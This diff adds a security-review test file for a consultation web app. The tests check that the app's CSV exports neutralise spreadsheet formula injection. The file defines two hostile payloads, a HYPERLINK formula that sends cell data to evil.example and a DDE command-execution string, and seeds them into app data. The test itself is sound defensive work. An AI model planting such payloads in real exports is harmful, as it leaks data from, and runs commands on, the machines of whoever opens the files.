@@ -1,0 +1,89 @@
+"""Findings of the security review: each test shows the defect it closes."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from sqlalchemy import select
+
+from participa.csv_export import FORMULA_STARTS
+from participa.extensions import db
+from participa.models import User
+
+from conftest import login_with_code
+
+pytest_plugins = ["factories_consultations"]
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'
+HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+# --- CSV exports: formula injection ---------------------------------------------------------
+
+def _csv_rules(app):
+    return sorted((rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")),
+                  key=lambda rule: rule.rule)
+
+
+@pytest.fixture
+def hostile_data(app, people, institutions, make_consultation):
+    """A closed consultation with a question and a comment, an institution, a person and
+    audit entries, all with text that a spreadsheet would run as a formula."""
+    from participa.ballots import service as ballots
+    from participa.consultations import comments
+    from participa.models import Stance
+    from participa.models.audit import record
+
+    from factories_consultations import shift
+
+    consultation = make_consultation(phase="draft")
+    ballots.add_question(people["official_msp"], consultation, text=HOSTILE, max_choices=1,
+                         options_text=f"{HOSTILE}\n-1 No")
+    db.session.commit()
+    shift(consultation, opens_days=-1, closes_days=10)
+    comments.add_comment(people["citizen"], consultation, body=HOSTILE, stance=Stance.FOR)
+    db.session.commit()
+    shift(consultation, opens_days=-30, closes_days=-2)
+    people["admin_mdt"].name = HOSTILE
+    institutions["MDT"].name = HOSTILE
+    for institution in institutions.values():
+        record("moderation.hidden", actor=people["admin_mdt"], institution=institution,
+               reason=HOSTILE_REASON)
+    db.session.commit()
+    return {"consultation_id": consultation.id, "acronym": "MDT",
+            "slug": "uso-contacto-ciudadano"}
+
+
+def test_every_csv_route_is_known(app):
+    rules = _csv_rules(app)
+    assert len(rules) >= 6
+    for rule in rules:
+        assert rule.arguments <= {"consultation_id", "acronym", "slug"}, rule.rule
+
+
+def _csv_rule_ids():
+    from conftest import make_app
+    import tempfile
+    from pathlib import Path
+
+    app = make_app(Path(tempfile.mkdtemp()))
+    return [rule.rule for rule in _csv_rules(app)]
+
+
+@pytest.mark.parametrize("path", _csv_rule_ids())
+def test_csv_exports_neutralise_formulas(app, client, people, hostile_data, path):
+    login_with_code(client, people["platform_admin"])
+    url = path
+    for name, value in hostile_data.items():
+        url = url.replace(f"<int:{name}>", str(value)).replace(f"<{name}>", str(value))
+    response = client.get(url)
+    assert response.status_code == 200, url
+    assert response.mimetype == "text/csv"
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells
+    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert dangerous == [], url
+    if "registro" in url or "comentarios" in url or "resultados" in url:
+        assert "'" + HOSTILE in cells or "'" + HOSTILE_REASON in cells, url
